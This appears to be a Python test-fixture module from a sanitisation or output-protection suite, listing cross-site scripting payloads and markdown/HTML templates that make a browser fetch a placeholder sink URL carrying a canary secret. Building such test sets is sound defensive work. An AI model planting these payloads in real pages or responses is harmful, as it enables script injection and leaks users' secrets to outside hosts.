"""Texts that try to run a script, or to make a browser fetch an address with a secret in it.

Our own small sample, for tests that run everywhere; `benchmarks.protection` has the large sets.
"""

from collections.abc import Sequence

CANARY = "CANARY-7f3a91"
"""The secret that must not get out."""
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg/onload=alert(3)>',
    "<iframe srcdoc='<script>parent.alert(4)</script>'></iframe>",
    "[press](javascript:alert(5)) [and](data:text/html,<script>alert(6)</script>) <javascript:alert(7)>",
    "[press](JaVaScRiPt&colon;alert(8)) [this](vbscript:msgbox) [too](\x01javascript:alert(9))",
    "<details open ontoggle=alert(10)><input autofocus onfocus=alert(11)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(12)>'>",
    "`<img src onerror=alert(13)>` ```html\n<script>alert(14)</script>\n```",
    "&lt;img src onerror=alert(15)&gt; \\<script>alert(16)\\</script>",
    "<a href='jav\tascript:alert(17)'>x</a><base href='javascript:alert(18)//'><form action=javascript:alert(19)>",
)
_FETCHES = (
    "![x]({sink}/a?q={canary})",
    "![x][1] and [1]\n\n[1]: {sink}/b?q={canary}",
    "<img src='{sink}/c?q={canary}' srcset='{sink}/d?q={canary} 2x'>",
    "<link rel=stylesheet href='{sink}/e?q={canary}'><link rel=prefetch href='{sink}/f?q={canary}'>",
    "<style>@import '{sink}/g?q={canary}'; *{{background:url({sink}/h?q={canary})}}</style>",
    "<div style=\"background:url('{sink}/i?q={canary}')\">x</div><table background='{sink}/j?q={canary}'>",
    "<iframe src='{sink}/k?q={canary}'></iframe><object data='{sink}/l?q={canary}'></object>",
    "<video src='{sink}/m?q={canary}' autoplay poster='{sink}/n?q={canary}'></video><audio src='{sink}/o?q={canary}'>",
    "<meta http-equiv=refresh content='0;url={sink}/p?q={canary}'>",
    "| a | b |\n|---|---|\n| ![y]({sink}/q?q={canary}) | [![z]({sink}/r?q={canary})]({sink}/s) |",
    "<svg><image href='{sink}/t?q={canary}'/><use href='{sink}/u?q={canary}#x'/></svg>",
    "<script src='{sink}/v?q={canary}'></script><script>fetch('{sink}/w?q={canary}')</script>",
)


def scripts() -> Sequence[str]:
    """Texts that would run a script."""
    return _SCRIPTS


def fetches(sink: str) -> Sequence[str]:
    """Texts that would have a browser ask `sink`, an address without a slash at its end."""
    return [each.format(sink=sink, canary=CANARY) for each in _FETCHES]
